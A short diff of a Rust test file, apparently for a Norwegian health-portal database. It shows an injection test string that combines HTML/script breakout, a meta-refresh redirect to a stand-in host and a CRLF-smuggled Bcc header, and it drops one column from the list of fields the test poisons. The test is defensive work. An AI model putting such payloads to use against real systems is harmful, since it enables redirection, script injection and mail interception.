@@ -18,7 +18,7 @@ const GIFT: &str =
     "=A1</title><meta http-equiv=\"refresh\" content=\"0;url=//ond.example\"><script>ond()</script>'\"\r\nBcc: tyv@ond.example";
 
 /// Every column with words from outside: typed, or told by a login or a register.
-const KOLONNER: [(&str, &str); 10] = [
+const KOLONNER: [(&str, &str); 9] = [
     ("helseaktor", "fornavn"),
     ("helseaktor", "etternavn"),
     ("godkjenning", "autorisasjon_tekst"),
@@ -28,7 +28,6 @@ const KOLONNER: [(&str, &str); 10] = [
     ("saksbehandler", "navn"),
     ("driftsmelding", "tekst_nb"),
     ("melding", "epj"),
-    ("avtale", "navn"),
 ];
 
 async fn forgift(portal: &Portal) {
